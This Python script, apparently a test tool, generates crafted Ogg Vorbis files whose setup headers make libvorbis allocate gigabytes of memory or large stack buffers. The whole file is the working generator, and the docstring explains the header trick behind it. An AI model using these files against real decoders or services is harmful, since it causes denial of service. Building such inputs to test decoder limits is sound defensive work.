#!/usr/bin/env python3
"""Writes small Ogg Vorbis files whose setup headers make libvorbis allocate
gigabytes, into DIR:
    tools/ogg-setup-bombs.py DIR
Each part is a valid identification, comment and setup header (no audio):
  bomb-1part.ogg     one part whose codebooks unpack to about 1.5 GB
  bomb-4parts.ogg    four such parts, chained
  bomb-256books.ogg  the most codebooks a setup may hold, about 17 GB
  bomb-4m-entries.ogg  a codebook of 4M entries, which libvorbis sorts on
                     the stack (48 MB)
  wide-64parts.ogg   64 chained parts of 255 channels and 8192-frame
                     blocks, 8 MB of buffers each once prepared
A codebook of 255 entries of 65,535 dimensions with lookup type 1 costs 20
bytes of header and needs a single multiplicand, yet libvorbis unpacks it
to 255 x 65,535 floats (67 MB) when decoding is set up."""
import os, struct, sys

from ogg_crc import crc


class Bits:
    """Vorbis packs fields from the least significant bit of each byte."""

    def __init__(self):
        self.bits = []

    def put(self, value, n):
        self.bits += [(value >> i) & 1 for i in range(n)]

    def bytes(self):
        b = bytearray((len(self.bits) + 7) // 8)
        for i, bit in enumerate(self.bits):
            b[i // 8] |= bit << (i % 8)
        return bytes(b)


def ilog(v):
    return v.bit_length()


def identification(channels, rate, blocks):
    return (b"\x01vorbis" + struct.pack("<IBIiii", 0, channels, rate, 0, 0, 0)
            + bytes([blocks[0] | blocks[1] << 4, 1]))


def comment():
    return b"\x03vorbis" + struct.pack("<I", 0) + struct.pack("<I", 0) + b"\x01"


def book(w, shortest, runs, dim, lookup):
    """An ordered codebook: `runs` counts the words of each length, from
    `shortest` bits on, one bit longer each; the code must be complete."""
    entries = sum(runs)
    w.put(0x564342, 24)
    w.put(dim, 16)
    w.put(entries, 24)
    w.put(1, 1)  # ordered
    w.put(shortest - 1, 5)
    done = 0
    for count in runs:
        w.put(count, ilog(entries - done))
        done += count
    w.put(lookup, 4)
    if lookup:
        w.put(0, 32)  # minimum
        w.put(0, 32)  # delta
        w.put(0, 4)  # one bit per multiplicand
        w.put(0, 1)  # not a sequence
        w.put(0, 1)  # the one multiplicand: entries < 2 ** dim


def setup(huge_books, long_book=False):
    w = Bits()
    w.put(huge_books, 8)  # books - 1: book 0 is small, the rest huge
    if long_book:
        book(w, 22, [1 << 22], 1, 0)  # 4M words of 22 bits
    else:
        book(w, 1, [2], 1, 0)  # two words of 1 bit
    for _ in range(huge_books):
        book(w, 7, [1, 254], 65535, 1)  # one word of 7 bits, 254 of 8
    w.put(0, 6), w.put(0, 16)  # one time-domain transform, type 0
    w.put(0, 6), w.put(1, 16)  # one floor, type 1:
    w.put(1, 5), w.put(0, 4)  # one partition of class 0
    w.put(0, 3), w.put(0, 2), w.put(0, 8)  # class 0: 1 dimension, no subclass
    w.put(1, 2), w.put(7, 4), w.put(64, 7)  # multiplier 2, 7 range bits, x 64
    w.put(0, 6), w.put(0, 16)  # one residue, type 0:
    w.put(0, 24), w.put(256, 24), w.put(31, 24)  # begin, end, partition size
    w.put(0, 6), w.put(0, 8), w.put(0, 3), w.put(0, 1)  # 1 class, book 0, no cascade
    w.put(0, 6), w.put(0, 16)  # one mapping, type 0
    w.put(0, 1), w.put(0, 1), w.put(0, 2)  # one submap, no coupling
    w.put(0, 8), w.put(0, 8), w.put(0, 8)  # submap 0: floor 0, residue 0
    w.put(0, 6), w.put(0, 1), w.put(0, 16), w.put(0, 16), w.put(0, 8)  # one mode
    w.put(1, 1)  # framing
    return b"\x05vorbis" + w.bytes()


def page(packets, serial, seq, flags):
    lacing = b""
    for p in packets:
        lacing += b"\xff" * (len(p) // 255) + bytes([len(p) % 255])
    assert len(lacing) < 256
    head = b"OggS" + struct.pack("<BBqIII", 0, flags, 0, serial, seq, 0) + bytes([len(lacing)]) + lacing
    body = b"".join(packets)
    c = crc(head + body)
    return head[:22] + struct.pack("<I", c) + head[26:] + body


def part(serial, channels=1, rate=44100, blocks=(8, 11), huge_books=0, long_book=False):
    head = page([identification(channels, rate, blocks)], serial, 0, 2)  # begins the part
    return head + page([comment(), setup(huge_books, long_book)], serial, 1, 4)  # ends it


out = sys.argv[1]
os.makedirs(out, exist_ok=True)
files = {
    "bomb-1part.ogg": part(1, huge_books=22),
    "bomb-4parts.ogg": b"".join(part(1 + k, huge_books=22) for k in range(4)),
    "bomb-256books.ogg": part(1, huge_books=255),
    "bomb-4m-entries.ogg": part(1, long_book=True),
    "wide-64parts.ogg": b"".join(part(1 + k, channels=255, blocks=(8, 13)) for k in range(64)),
}
for name, data in files.items():
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
    print(f"{name}: {len(data)} bytes")
